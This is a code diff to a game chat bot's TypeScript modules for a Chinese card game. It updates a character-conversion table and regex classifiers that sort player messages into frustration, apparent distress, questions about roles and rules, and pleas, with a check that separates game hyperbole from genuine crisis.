@@ -2714,7 +2714,7 @@ frame.real	1	§\bnot ¶(just )?(with|about|over|because of) (the|this) (game|car
 
 // src/chatter/line/script-table.ts
 const ALONE = "不不个個为為么麼了了事事产產什什仑侖们們众眾伙夥伪偽佛佛俊俊修修僵僵克克冢冢冬冬冲衝净淨凄悽凌凌凫鳧出出别別刮刮制制勋勳千千卜卜卤滷即即卷卷历歷厕廁参參发發只只台臺叹嘆吃吃合合吊吊同同后後启啟呆呆周周咤吒咽咽哄哄哗譁唇唇啮齧喂喂噪噪回回团團困困在在坛壇坝壩埙壎墙牆壳殼复復大大奖獎奸奸好好妫媯姜姜娘娘娴嫻它它家家尝嘗尽盡局局岁歲峰峰巨巨布布席席干幹并並幸幸幺么床床庵庵弥彌弦弦当當录錄彩彩征徵径徑御御志志念念恤恤恶惡悫愨愈愈我我戚戚扇扇才才扎扎托托扣扣抬抬抵抵拿拿挲挲挽挽捆捆捍捍捣搗搜搜摆擺教教旋旋旗旗既既昆昆昵暱暗暗曲曲术術朱朱杆杆来來杯杯松松板板查查栗栗核核梁梁棋棋榉櫸檐簷欲欲死死毁毀汇匯汹洶沈沈没沒沩溈沾沾注注渖瀋湿溼溪溪滟灩漓漓灶灶炼煉爱愛牦犛狸狸玩玩璇璇画畫症症痴痴痹痺瘘瘻皂皂看看真真睾睪私私秋秋秘秘稆穭竖豎签籤粽粽糊糊累累纤纖线線绕繞给給绝絕绣繡绦絛绱鞝绷繃绿綠缰韁群群胄胄胸胸脏髒腭顎致致舍舍艳豔芸芸苏蘇荡蕩荫蔭药藥获獲莼蓴蓑蓑蔑蔑蕴蘊表表袅嫋裥襉证證说說谂諗谘諮谣謠谥諡谫譾谷谷赃贓赍齎赝贗赞贊赪赬这這迳逕迹跡逾逾酝醞酸酸采採里裡鉴鑑针針钜鉅钟鍾钥鑰钩鉤钫鈁钵缽钻鑽铲鏟铺鋪锈鏽锐銳锤錘锫錇锺鍾镇鎮镌鐫镎鎿镟鏇镢钁镰鐮闲閒阅閱须須颓頹颜顏飧飧饥飢馀餘馆館骂罵骍騂鲇鯰鲞鯗鳄鱷鸡雞鹇鷳鹚鷀麽麼";
-const BETWEEN = "丑_时丑 文_丑|个_中箇|于_吉于 _禁于|伙_不伙 _好伙 _藏伙 团_伙 家_伙|克_制剋|准_许准|几茶_几|凶吉_凶|出_情齣 一_齣|划_水划|别_扭彆 _着彆|制_造製|占_卜占|历日_曆|发_型髮 头_髮 理_髮 白_髮|只_小隻 _碗隻 _羊隻 _身隻 一_隻 三_隻 两_隻 船_隻 那_隻|台_风颱|后太_后 王_后 皇_后|周_年週 一_週 我_末週|坛_上罈 _子罈 _底罈 _酒罈 一_罈|复_想覆 _杂複 反_覆 回_覆 重_複|姜生_薑|家_伙傢|尝_厉嚐 _尝嚐|尽_管儘 _量儘|岳_飞岳|布摆_佈|干_一乾 _了这乾 _净乾 _就乾 _杯乾 _涉干 _燥乾 _的乾 _脆乾 若_干 饼_乾|幸_得倖 侥_倖|征_服征|念_了唸 _叨唸 _咒唸|恶_心噁|托_了託 _付託 _福託 _管託|挨_了捱 _打捱 _骂捱|斗_转斗|松_一鬆 _了鬆 _快鬆 _手鬆 _绑鬆 一_鬆 放_鬆|板_你闆 老_闆|沾均_霑|签_名簽|系_记係 关_係 联_繫|胡_须鬍|致精_緻|舍_不捨 _在捨|苏_醒甦|表手_錶|谷_丰穀 _是穀 _物穀|赞谬_讚|郁郁_郁|采神_采|里_程里 公_里 千_里 百_里|钟_不鐘 时_鐘 看_鐘|霉_了霉 _事霉 _蛋霉 倒_霉|面_条麵 _粉麵 吃_麵 拌_麵 泡_麵|须胡_鬚";
+const BETWEEN = "丑_时丑 文_丑|个_中箇|于_吉于 _禁于|伙_不伙 _好伙 _藏伙 团_伙 家_伙|克_制剋|准_许准|几茶_几|凶吉_凶|出_情齣 一_齣|划_水划|别_扭彆 _着彆|制_造製|占_卜占|历日_曆|发_型髮 头_髮 理_髮 白_髮|只_小隻 _碗隻 _羊隻 _身隻 一_隻 三_隻 两_隻 船_隻 那_隻|台_风颱|后太_后 王_后 皇_后|周_年週 一_週 我_末週|坛_上罈 _子罈 _底罈 _酒罈 一_罈|复_想覆 _杂複 反_覆 回_覆 重_複|姜生_薑|家_伙傢|尝_厉嚐 _尝嚐|尽_管儘 _量儘|岳_飞岳|布摆_佈|干_一乾 _了这乾 _净乾 _就乾 _杯乾 _涉干 _燥乾 _的乾 _脆乾 若_干 饼_乾|幸_得倖 侥_倖|征_服征|念_了唸 _叨唸 _咒唸|恶_心噁|托_了託 _付託 _福託 _管託|挨_上捱 _了捱 _打捱 _骂捱|斗_转斗|松_一鬆 _了鬆 _快鬆 _手鬆 _绑鬆 一_鬆 放_鬆|板_你闆 老_闆|沾均_霑|签_名簽|系_记係 关_係 联_繫|胡_须鬍|致精_緻|舍_不捨 _在捨|苏_醒甦|表手_錶|谷_丰穀 _是穀 _物穀|赞谬_讚|郁郁_郁|采神_采|里_程里 公_里 千_里 百_里|钟_不鐘 时_鐘 看_鐘|霉_了霉 _事霉 _蛋霉 倒_霉|面_条麵 _粉麵 吃_麵 拌_麵 泡_麵|须胡_鬚";
 
 // src/chatter/line/script.ts
 var tables;
@@ -18943,7 +18943,7 @@ function gravityOf(line, opinion, dying, part = false) {
 
 // src/chatter/detection/sigh.ts
 const MEANT = /我|俺|自己|真的|每天|天天|一直|老是|好想|现实|\b(?:i|i'm|im|my|really)\b/;
-const VEXED = /投吧|投了|投降|烂|没法打|打不了|坑|输|菜|还打什么|什么牌|直接送|倒霉|垃圾|破牌|无语|服了|还玩什么|对不起(?:主公|忠臣|队友)|lose|losing|lost|garbage|trash/;
+const VEXED = /投吧|投了|投降|[烂臭]|废(?![物人柴])|没法打|打不了|坑|输|菜|还打什么|什么牌|直接送|倒霉|垃圾|破牌|无语|服了|还玩什么|对不起(?:主公|忠臣|队友)|lose|losing|lost|garbage|trash/;
 const INVITES = /(?<!别|不|要|再|能)(?:杀|砍|收|打)(?:了|死)?我(?:吧|呀|好了)|来杀我|敢杀我|\bkill me\b/;
 const PLEADS = /桃|无懈|救我|奶我|奶一口|救一下|\bpeach\b|\bheal\b|\bsave me\b/;
 const CRY = 3;
@@ -18956,17 +18956,19 @@ const EARNEST = /真的|每天|天天|一直|现实|好想|我妈|我爸|家里|
 const isOfFigure = ({ real, life, worry }, whole) => !real && !life && !worry && FIGURE.test(whole) && !EARNEST.test(whole);
 const OUTCRY = /^(?:我|俺|老子|人)?(?:都|快|就|简直|直接|干脆)*(?:想|要|得|可以|只能)*(?:去)?(?:上吊|跳楼|跳河|跳江|撞墙|抹脖子)(?:了|算了|去|得了|吧)*$/;
 const POOR_HAND = /[一半]张[^,.!?;:]{0,4}[没不]|没[一半]张|全是(?:[杀闪桃酒]|装备|锦囊|黑|红)|[杀闪桃]都没|摸(?:不到|的(?:都|全)?是?什么)|(?:起手|手牌|这手)[^,.!?;:]{0,4}(?:烂|差|废|没)/;
+const IDLE = /[正刚恰幸]好|(?:[好这]?几|[两三四五]|整)?[天晚宿夜]?(?:都|又)?没(?:怎么)?(?:睡(?:过|好|着|够)?(?:个|一个)?(?:整觉|好觉|觉|踏实)?|合眼)(?!.{0,2}醒)了?|失眠|睡不(?:着|好|踏实)|(?:闭上?眼|躺下)睛?就?|[脑子袋]{2}里?(?:就|都|是|还|一直|根本)*(?:停不下来|[转想]个?不停|静不下来|糊)|\bfor no reason\b|\bdead (?:giveaway|wrong|right|sure|certain|serious|even|heat|weight|hands?|cards?|draws?|easy|last|on|end)\b|\b(?:brain|mind|head) (?:just |keeps? )*(?:won'?t (?:shut (?:up|off)|stop|quit)|spinning|racing)/g;
+const withoutIdle = (text) => text.replace(IDLE, "");
 function isSigh(line, { kind, start, end }, { part, whole }) {
 	const { text } = line;
 	const said = part ? text : text.slice(clauseStart(text, start), clauseEnd(text, end));
 	if (kind === "means") return !line.real && OUTCRY.test(said) && POOR_HAND.test(whole);
-	if (!(part || line.game) || line.real || line.worry) return false;
+	if (!(part || line.game || POOR_HAND.test(whole)) || line.real || line.worry) return false;
 	const words = text.slice(start, end);
 	if (kind === "hopeless") return !MEANT.test(text) || VEXED.test(whole) || DYING.test(words) && PLEADS.test(whole);
 	if (kind !== "passive") return false;
 	if (isOfFigure(line, whole)) return true;
 	if (INVITES.test(whole) || part && text.length <= CRY && !MEANT.test(text)) return true;
-	return VEXED.test(whole) && (USELESS.test(words) || !MEANT.test(said));
+	return (VEXED.test(whole) || POOR_HAND.test(whole)) && (USELESS.test(words) || !MEANT.test(said));
 }
 const HOLDING = /上西天|归西|见阎王|撑|扛|挺|熬|坚持|hold on|go on/;
 const LIFE = /死|活|命|世|\b(?:die|live|life)\b/;
@@ -19204,9 +19206,8 @@ function dangerOf(line, opinion, moment) {
 	return score;
 }
 const BARE_HURT = /^(?:我|先|再|又|就|还|自己|然后|那我?|i|i'll|just|then|\s)*(?:自[残伤虐]|hurt myself)(?:一下|一次|一波|了|吧)*$/;
-const JUST = /[正刚恰幸]好/g;
 function judgeCrisis(line, opinionOf, dying = false) {
-	const weighed = (text) => opinionOf(text.replace(JUST, ""));
+	const weighed = (text) => opinionOf(withoutIdle(text));
 	const threat = threatOf(line);
 	const others = onlyOthers(line);
 	const moment = { dying, part: false, whole: line.text, threat: others };
@@ -19327,7 +19328,7 @@ const ROLE_EN = "(?:loyal(?:ist)?s?|rebels?|traitors?|spy|spies|renegades?)";
 const any = (...parts) => new RegExp(parts.join("|"));
 const ASKS = any(
 	"几[下次回](?:$|啊|呀|来着)|(?:要|想)(?:来)?[杀砍打弄收](?:死|掉)?我了?是(?:吧|不是)$|头号(?:嫌疑|可疑|反贼|内奸)|嫌疑(?:人|犯|最大)|是[忠反内].?(?:还)?是[忠反内]|忠还是反|是反还是|吗|(?<![这那多])么(?!$|的)|嘛$|是不是|([打杀砍保帮救放管敢拆贴留认追])不\\1|动不动手|上不上|干不干|是否|有没有|会不会|能不能|可不可以|要不要|该不该|行不行|信不信(?!我)|信不信我$|对不对|好不好|谁(?!都|也|敢(?!说)|要(?!是反|是内)|想(?!打|杀)|让|知道|怕|再|爱|说.{1,8}(?:跟|我就|别怪))|哪(?!怕|里话|有.{1,8}的)|图啥|咋(?!呼)|什么|啥|咋|怎么|怎样|如何|为何|为什么|为啥|凭什么|凭啥|干嘛|干吗|几(?:个|号|张|人|成|点|轮|反|忠|内|滴|格|血|回合|颗|次|刀)|多少|还是(?=.+$)|(?<![装演骗闹藏].{0,3}|着.{0,2})呢$|不$|(?:过|了|有).{0,8}没有?$",
-	"\\b(?:gimme|give me|got any) (?:a |some )?(?:names?|suspects?)\\b|^(?:(?:so|and|but|ok|hey|well|wait|then|or|lord)[ ,]+)*(?:wtf|who|whom|whose|what|why|how|which|where|when|is|are|am|was|were|do|does|did|can|could|would|will|should|shall|has|have|isn't|aren't|don't you|didn't|who's|what's|how's|whats|whos)\\b",
+	"\\b(?:you|u|y'?all)(?: guys| all)? (?:think|reckon|figure)\\b.{1,30}\\bor\\b|\\b(?:gimme|give me|got any) (?:a |some )?(?:names?|suspects?)\\b|^(?:(?:so|and|but|ok|hey|well|wait|then|or|lord)[ ,]+)*(?:wtf|who|whom|whose|what|why|how|which|where|when|is|are|am|was|were|do|does|did|can|could|would|will|should|shall|has|have|isn't|aren't|don't you|didn't|who's|what's|how's|whats|whos)\\b",
 	"\\bwhat'?s (?:your|ur) (?:take|opinion|view|thoughts?|guess)\\b",
 	"\\b(?:who|what|why|y|how|which) (?:u|you|ya|is|are|do|did|does|was|were|hit|killed|attacked|saved|took|many|sure|come)\\b",
 	"\\b(?:you think|right|huh|no|yeah|or (?:nah|not|no|what))$"
@@ -19355,7 +19356,7 @@ const NONE_DEAD = /[忠反内](?:贼|臣|奸)?(?:是不是|还)?(?:一|半)个(?
 const COUNTED_UP = /[忠反内](?:贼|臣|奸)?(?:只|就)剩(?:下|了)?[一二三四两\d]个?|(?:就|只)剩[一二三四两\d]个?[忠反内]|\b(?:only|just) (?:\d|one|two|three|four) (?:more )?(?:rebels? |rebs? )?(?:left|to go)\b|[忠反内](?:贼|臣|奸)?(?:不)?(?:就|只|还)?(?:剩|有)(?:下|了)?[一二三四两\d]个?了?(?:吧|对吧|是吧)|[忠反内].{0,12}(?:没错|对吧|是吧|没记错|来着)/;
 const COUNT_NOT = /得罪.{0,3}(?:多少|几个)人|几张|多少张|几点|几滴|几血|多少血|几轮|几回合|几岁|几个桃|几颗|几成|多少把握|几次|几刀|(?:打|伤|烧|射|中|掉)(?:了|到)?几个?人|几个?人(?:掉血|受伤|中|挨)|\bhow many (?:cards|peaches|hp|lives|turns|rounds|times|games|years)\b/;
 const RULE = any(
-	"规则|技能.{0,6}(?:讲|说|介绍|科普)|不能(?:说|跳|亮)(?:自己|身份)|(?:怎么|咋|如何|怎样|咋样|什么条件)(?:才)?(?:能|算|会)?(?:赢|获胜|胜利|玩)(?!的)|胜利条件|赢的条件|(?:内奸?|反贼?|忠臣?|主公)(?:要|得)?(?:怎么|咋|如何|怎样)(?:才能|算|能)?(?:赢|玩|打)|(?:这|那)?(?:个)?技能(?:是)?(?:什么|啥|干嘛|怎么|有什么)|(?:是)?(?:什么|啥|哪个)技能|技能(?:介绍|说明)|(?:什么|啥)(?:效果|意思的技能)|(?:有|能)(?:什么|啥)用$|(?:是)?干(?:什么|啥|嘛)(?:用)?的|(?:是)?(?:啥|什么)(?:玩意|玩意儿|鬼东西|东西|牌)|(?:怎么|咋)(?:算|结算|判|触发|生效)的?$|没(?:传|触发|生效)|(?:什么|啥|何)时(?:候)?(?:才)?(?:能|会|触发)|(?:才|会)(?:反|触发|生效|发动).{0,4}(?:对吧|吧|吗)$|判定(?:怎么|是什么)|距离(?:怎么|是怎么)算|(?:能|可以)(?:被)?(?:无懈|闪)(?:掉|开)?吗",
+	"规则|技能.{0,6}(?:讲|说|介绍|科普)|不能(?:说|跳|亮)(?:自己|身份)|(?:怎么|咋|如何|怎样|咋样|什么条件)(?:才)?(?:能|算|会)?(?:赢|获胜|胜利|玩)(?!的)|胜利条件|赢的条件|(?:内奸?|反贼?|忠臣?|主公)(?:要|得)?(?:怎么|咋|如何|怎样)(?:才能|算|能)?(?:赢|玩|打)|(?:这|那)?(?:个)?技能(?:是)?(?:什么|啥|干嘛|怎么|有什么)|(?:是)?(?:什么|啥|哪个)技能|技能(?:介绍|说明)|(?:什么|啥)(?:效果|意思的技能)|(?:有|能)(?:什么|啥)用$|(?:是)?干(?:什么|啥|嘛)(?:用)?的|(?:是)?(?:啥|什么)(?:玩意|玩意儿|鬼东西|东西|牌)|(?<![账帐])(?:怎么|咋)(?:算|结算|判|触发|生效)的?$|没(?:传|触发|生效)|(?:什么|啥|何)时(?:候)?(?:才)?(?:能|会|触发)|(?:才|会)(?:反|触发|生效|发动).{0,4}(?:对吧|吧|吗)$|判定(?:怎么|是什么)|距离(?:怎么|是怎么)算|(?:能|可以)(?:被)?(?:无懈|闪)(?:掉|开)?吗",
 	"\\b(?:how (?:do|does|can) (?:i|you|we|the|a|one)\\b.{0,24}\\b(?:win|play|work)|rules?\\b|(?:wtf|what(?: the \\w+)?) (?:does|do) .{1,24} do\\b|what(?:'s| is) (?:an?|the) \\w+ (?:do|for)\\b|how does .{1,24} work|whats? .{1,16} skill|win condition|how to (?:play|win)|what(?:'s| is) (?:the )?(?:nullification|duel|dodge|peach)\\b)"
 );
 const SURE = any(
@@ -19363,7 +19364,7 @@ const SURE = any(
 	"\\b(?:(?:are |r )?(?:you|u) (?:really |that |absolutely |100% ?|so )?(?:sure|certain|serious|positive)|how (?:sure|certain|confident)|for real|really)\\b(?!.*\\b(?:think|is|are)\\b.*\\bwho\\b)"
 );
 const EVIDENCE = /(?<!还要|还要啥|还要什么|还要个啥)(?:证据|依据|凭据|把柄)|(?:给|有|讲|说)(?:我)?个(?:说法|道理|理由|解释)|就?凭(?:感觉|直觉|一张嘴)|(?:有|什么|啥)(?:根据|理由|道理)(?!也)|^(?:根据|理由|依据|证据)(?:呢|是)?|理由(?:是|呢|何在|说)|(?:哪|什么)(?:里|儿|一点|点|方面|地方).{0,4}(?:看出|看得出|像|可疑|不对|有问题|露)|怎么(?:看出|看得出|知道|判断|推|得出|发现|断定)|从何(?:得知|说起|看出)|何以见得|拿什么(?:证明|说)|证明(?:一下|给|啊|呢)|凭(?:的)?哪|有何(?:凭|证)|\b(?:evidence|proof|prove|based on (?:what|which)|what makes you|how (?:do|did|can|could|would) you (?:know|tell|figure|conclude)|on what (?:basis|grounds)|what did (?:he|she|they|seat \d+|\d+) do(?! (?:last|this|in|to|just|on))|what(?:'s| is| are) (?:your|the) (?:reasons?|reasoning|basis)|give me (?:a|one) reason)\b/;
-const WHY = /为什么|为啥|为何|为毛|凭什么|凭啥|凭毛|怎么不(?!是|吭声|说话|出声|吱声|讲话)|咋不(?!吭声|说话|出声|吱声|讲话)|(?<!打算|准备|想|想要|计划|回合|轮|轮要|刚|刚才|都)(?:干嘛(?!呢$|去|的|用)|干吗|干什么(?!呢$|的|了|过|来着|用))|何故|何以(?!见)|因为什么|(?:图|为)(?:什么|啥|个啥)|有(?:什么)?仇|(?:啥|什么|哪门子|多大)(?:的)?仇|\bwhy'?d\b|\bhow (?:do|did|could|can) (?:you|u) (?!feel|know|think|read|see|do\b)|\bwhat'?s your (?:deal|problem|issue)\b|欠(?:你|他|她|我)(?:钱|的|你|了)|招谁惹谁|(?:哪|什么时候|怎么|咋)(?:里|儿)?(?:得罪|招|惹)(?:了|过|着)?(?:你|他|她)|至于(?:吗|么|不)|犯得着|什么(?:原因|缘故|意思|情况|居心)|啥意思|何意|怎么(?:老|总|又|还|就|都|不)?(?:打|杀|砍|拆|顺|坑|搞|针对|救|帮|乐|兵|动)|怎么(?:觉得|认为|会(?:觉得|认为|怀疑|打|杀|拆|救))|这么(?:说|认为|觉得|想)\?|理由呢|几个意思|(?:咋|怎么)(?:老|总|一直|又|还|就)(?:是)?(?:跟|和|盯|追|逮|揪|冲)|咋(?:老|又|还|就)?(?:打|杀|砍|拆|顺|不救|不)|\b(?:why|y(?= (?:did|do|are|r|me|would)\b)|how come|what for|what was that(?: for)?|what did i do|what have i done|what(?:'s| is) your (?:problem|reason)|what do you mean|explain|what(?:'?s| is| was) the point|bc why|what gives)\b/;
+const WHY = /为什么|为啥|为何|为毛|凭什么|凭啥|凭毛|怎么不(?!是|吭声|说话|出声|吱声|讲话)|咋不(?!吭声|说话|出声|吱声|讲话)|(?<!打算|准备|想|想要|计划|回合|轮|轮要|刚|刚才|都)(?:干嘛(?!呢$|去|的|用)|干吗|干什么(?!呢$|的|了|过|来着|用))|何故|何以(?!见)|因为什么|(?:图|为)(?:什么|啥|个啥)|有(?:什么)?仇|(?:啥|什么|哪门子|多大)(?:的)?仇|\bwhy'?d\b|\bhow (?:do|did|could|can) (?:you|u) (?!feel|know|think|read|see|do\b)|\bwhat'?s your (?:deal|problem|issue)\b|欠(?:你|他|她|我)(?:钱|的|你|了)|招谁惹谁|(?:哪|什么时候|怎么|咋)(?:里|儿)?(?:得罪|招|惹)(?:了|过|着)?(?:你|他|她)|至于(?:吗|么|不)|犯得着|什么(?:原因|缘故|意思|情况|居心)|啥意思|何意|怎么(?:老|总|又|还|就|都|不)?(?:打|杀|砍|拆|顺|坑|搞|针对|救|帮|乐|兵|动)|怎么(?:觉得|认为|会(?:觉得|认为|怀疑|打|杀|拆|救))|这么(?:说|认为|觉得|想)\?|理由呢|几个意思|(?:咋|怎么)(?:老|总|一直|又|还|就)(?:是)?(?:跟|和|盯|追|逮|揪|冲)|咋(?:老|又|还|就)?(?:打|杀|砍|拆|顺|不救|不)|\b(?:why|y(?= (?:did|do|are|r|me|would)\b)|how come|what for|what was that(?: for)?|what did i do|what have i done|what(?:'s| is) your (?:problem|reason)|what do you mean|explain|what(?:'?s| is| was) the point|how(?:'?s| is| does| do) (?:that|this|it) (?:even )?mak(?:e|es|ing) (?:any )?sense|bc why|what gives)\b/;
 const PLAN = /(?:下[回次把]|以后|往后).{0,3}(?:还|再)(?:敢|会|要|想|[\u4e00-\u9fff](?:不|我不))|还敢(?:不敢|不|吗|么)|轮到你(?:了)?.{0,3}(?:咋|怎么)(?:打|办|玩|出)|(?:是要|是想|这是要|要|想)(?:来)?(?:杀|砍|打|弄|收|动)(?:死|掉)?我了?(?:是吧|是不是|吗|么|\?|$)|还(?:救|保|帮|护|奶)(?:不|吗|么)|(?:救还是不救|打还是不打|救不救|保不保|帮不帮|管不管)|下(?:个|一)?(?:回合|轮|圈).{0,12}[砍打杀弄搞拆顺](?:谁|哪个|几号)|(?:下(?:个|一)?(?:回合|轮|圈)|等下|待会儿?).{0,4}(?:是不是|会不会|准备|打算|要)|^(?:砍|刀|捅|顺|兵|弄|搞)(?:谁|哪个|几号|哪边)|打不打|杀不杀|砍不砍|保不保|帮不帮|动不动手|(?:弄|搞|砍|办|收拾)(?:谁|哪个|几号)$|(?:打算|准备|计划|想要?)(?:怎么|咋|打谁|杀谁|干嘛|干什么|做什么|怎样|如何|救谁|先打|对付谁|集火谁|[打杀](?:哪|几))|接下来(?:怎么|咋|打|干|要|该|你)|下(?:个|一)?(?:回合|轮|步)(?:你|我们|咱们|咱)?(?:打算|准备|怎么|要|想|会|打谁|干|去)|(?:先|该|应该|要|去|来|都|会|能|想|集火|一起)(?:打|杀|救|集火|攻击|对付|拆|砍|保|盯)(?:谁|哪个|哪位|几号)|^(?:打|杀|救|集火|拆|乐)(?:谁|哪个|几号)|集火(?:谁|哪个|几号)|怎么(?:打|办|出牌|配合|救|走|搞|玩)(?:才|啊|呢|好|$|他|[一二三四五六七八九\d]号)|(?:要不要|该不该|应不应该|能不能|可不可以|应该|是不是该|是不是要)(?:先|再|去|现在)?(?:打|杀|救|留|出|交|用|拆|跳|集火|保|帮|把|开|放|吃|弃)|(?:有|什么|啥)(?:计划|打算|策略|对策|想法|思路|主意|高见)|你(?:要|想|会)(?:打|杀|救|帮)(?:谁|哪|我吗|[一二三四五六七八九\d]+号吗)|\b(?:what(?:'s| is| are) (?:the|your|our|you)(?: \w+)? (?:plan|strategy|move|going to do|gonna do|planning)|what (?:will|should|shall|would) (?:you|we|i) do|what now|what next|who(?:m)? (?:should|do|shall|will|are|would) (?:we|i|you)(?: \w+)? (?:attack|hit|kill|target|focus|help|save|protect|go(?:ing)?|attacking|targeting)\b.*|who(?:m)? (?:to|next|first)|who should \w+|who are you (?:going|gonna|after|targeting)|(?:u|you) (?:peaching|saving|healing|helping|hitting|coming for|backing) (?:me|us|him|her|\d)|(?:ur|whats|what's) (?:the )?next move|should (?:i|we)|shall we (?:attack|hit|kill|focus|go)|any plans?|will you (?:attack|hit|help|save|protect|kill|target)|(?:will|would|gonna|going to) (?:(?:you|u) )?do (?:that|it|this) again|again next (?:turn|time|round))\b/;
 const ROLE_ASKED = any(
 	`(?:是|像)(?:不是|个|哪个)?${ROLE_ZH}(?:吗|么|吧|啊|还是|呀|$)`,
@@ -19383,7 +19384,7 @@ const ROLE_ASKED = any(
 const GUESS_ASKED = any(
 	"(?:谁|哪个|哪位|几号)(?:看着|看起来)?(?:最|更|比较)?(?:不像好人|不是好人|不是好东西|没安好心|像坏人|居心)|(?:谁|哪个|哪位|几号)(?:会|可能)?(?:是)?(?:最后|另外?|剩下的?|第[一二三四])(?:那|的)?(?:一)?个(?:是)?[反忠内]",
 	"头号(?:嫌疑|可疑|反贼|内奸)|嫌疑(?:人|犯)?(?:最大|是谁|呢)|(?:什么|啥)成分",
-	`\\bwho(?:'?s| is) (?:the|that) (?:other|last|second|remaining) (?:one|${ROLE_EN})\\b`,
+	`\\bwho(?:'?s| is) (?:the|that) (?:other|last|second|remaining) (?:one|${ROLE_EN})\\b|\\b(?:you|u|y'?all)(?: guys| all)? (?:think|reckon|figure)\\b.{1,30}\\bor\\b`,
 	`(?:谁|哪个|哪位|几号)(?:才|最|会|可能|应该|更|比较|看着|看起来|像是|都|就|到底|究竟)?(?:是|像|不像|为)?(?:个)?(?:${ROLE_ZH}|主公的人|可疑|可信|靠谱|有问题|不对劲|有嫌疑|危险|有鬼|跳反|装忠|在装|藏|坏|内)`,
 	`(?:${ROLE_ZH})(?:是|会是|到底是|可能是)?(?:谁|哪个|哪位|几号)`,
 	"(?:怎么|咋|如何)(?:看(?!出|得)|想|评价|分析|判断)(?!.*(?:赢|玩))|有(?:什么|啥|何)(?:看法|高见|想法|怀疑)|(?:怎么样|咋样|如何|怎样)$|(?:谁|哪个|几号)(?:现在)?(?:最|更|比较)?(?:脏|黑|像|跳|阴|假|怪)",
@@ -19400,7 +19401,7 @@ const GUESS_ASKED = any(
 );
 const SELF_JUDGED = any(
 	"(?:怎么|咋|如何)(?:看待?|评价)我(?!的|这|们|都|也|就)|我在(?:你|您)(?:眼里|心里|看来)|(?:你|您)(?:看|觉得|说|猜|认为|感觉|眼里|心里)我(?:是|像|算|属于)(?:个)?(?:啥|什么|哪|好人|坏人|谁)|对我(?:是)?(?:有)?(?:什么|啥|怎么)(?:看|评价|印象|想法|态度)",
-	"\\b(?:ur|your|the|a) (?:read|take|opinion|view|thoughts?|verdict) (?:on|of|about) me\\b|\\b(?:what|wat|how) (?:do|did|would|d'?) ?(?:you|u|ya) (?:think|make|reckon|feel|see|read|rate|judge)(?: (?:of|about|on))? me\\b|\\bwhat (?:do|would) (?:you|u) (?:take|have) me (?:for|as)\\b|\\bwhat am i\\b(?! (?:doing|supposed|gonna|going|to|missing|even|looking|meant|getting))|\\bwhere do i stand\\b|\\b(?:thoughts on|read on) me\\b|\\bhow do i look to (?:you|u)\\b|\\bam i (?:sus|suspicious|a suspect|on your list|trusted|the suspect)\\b"
+	"\\b(?:ur|your|the|a) (?:read|take|guess|opinion|view|thoughts?|verdict) (?:on|of|about) me\\b|\\b(?:what|wat|how) (?:do|did|would|d'?) ?(?:you|u|ya) (?:think|make|reckon|feel|see|read|rate|judge)(?: (?:of|about|on))? me\\b|\\bwhat (?:do|would) (?:you|u) (?:take|have) me (?:for|as)\\b|\\bwhat am i\\b(?! (?:doing|supposed|gonna|going|to|missing|even|looking|meant|getting))|\\bwhere do i stand\\b|\\b(?:thoughts on|read on) me\\b|\\bhow do i look to (?:you|u)\\b|\\bam i (?:sus|suspicious|a suspect|on your list|trusted|the suspect)\\b"
 );
 const DRAWN = /摸(?:得|的|牌)(?:都)?(?:怎么样|咋样|如何|怎样|还行吗|好吗)|要(?:啥|什么)(?:不|没)(?:来|有)(?:啥|什么)/;
 const FALLEN = /(?:死|凉|挂|倒|没|出局)(?:了|光|绝|完)?(?:没有?|吗|么)$|还(?:活着|在)(?:吗|么|没有?)?$/;
@@ -19431,18 +19432,18 @@ const ASSERTED = /(?:没|不是).{1,10}(?:吗|么)$/;
 const IS_NOT = /不是.{1,10}的(?:吗|么)$/;
 const TAG_EN = /[, ]+(?:ok|okay|right|huh|yeah|yes|eh|lol)$/;
 const NO_PLEA = /(?:没有?|不肯?|不来|不去|未|不想|懒得|怎么不|别|不用|不要|谁让你)(?:去|来|人)?(?:救|帮|奶)|\b(?:not|n't|never|didnt|wont) (?:\w+ )?(?:help|save|heal)/;
-const SPARE = /别(?:再)?(?:给|往)?我?(?:贴|挂)我?(?:身上)?(?:乐|兵|断|闪电)|(?:你|您)(?:要是|只要|如果|若)(?:是)?(?:不|别)(?:再|去)?(?:打|杀|砍|拆|动|搞|碰|顺|乐|兵)我(?!们)|(?:别|不要|别再|不要再|勿|莫|能不能不|可不可以不|能别|停止|住手)(?:老是?|总是?|一直|都|来)?(?:打|杀|砍|拆|动|搞|碰|顺|集火|针对|乐|兵|欺负|弄|捅|射|a|害|坑)(?:我(?!们)|俺|咱|人家)|别(?:再)?(?:对|冲|朝)(?:着|准)?(?:我(?!们)|俺)|饶(?:了)?(?:我|命)|放(?:过|了)我|放(?:我)?一?(?:马|条生路)|轻点(?:锤|打|揍|砍)|手下留情|高抬贵手|刀下留人|留(?:我)?一?(?:条)?(?:狗)?命|\b(?:don't|dont|do not|stop|quit|please don't|no need to)(?: keep)? (?:attack|hit|kill|target|hurt|shoot|gun|slash|pick|dismantl|steal|touch|bother|focus|burn)\w*(?: (?:from|on|my))* ?(?:me|my)\b|\b(?:spare me|have mercy|mercy|let me live|leave me alone|not me)\b/;
+const SPARE = /别(?:再)?(?:给|往)?我?(?:贴|挂)我?(?:身上)?(?:乐|兵|断|闪电)|(?:你|您)(?:要是|只要|如果|若)(?:是)?(?:不|别)(?:再|去)?(?:打|杀|砍|拆|动|搞|碰|顺|乐|兵)我(?!们)|(?:别|不要|别再|不要再|勿|莫|能不能不|可不可以不|能别|停止|住手)(?:老是?|总是?|一直|都|来)?(?:打|杀|砍|拆|动|搞|碰|顺|集火|针对|乐|兵|贴|烧|欺负|弄|捅|射|a|害|坑)(?:我(?!们)|俺|咱|人家)|别(?:再)?(?:对|冲|朝)(?:着|准)?(?:我(?!们)|俺)|饶(?:了)?(?:我|命)|放(?:过|了)我|放(?:我)?一?(?:马|条生路)|轻点(?:锤|打|揍|砍)|手下留情|高抬贵手|刀下留人|留(?:我)?一?(?:条)?(?:狗)?命|\b(?:don't|dont|do not|stop|quit|please don't|no need to)(?: keep)? (?:attack|hit|kill|target|hurt|shoot|gun|slash|pick|dismantl|steal|touch|bother|focus|burn)\w*(?: (?:from|on|my))* ?(?:me|my)\b|\b(?:spare me|have mercy|mercy|let me live|leave me alone|not me)\b/;
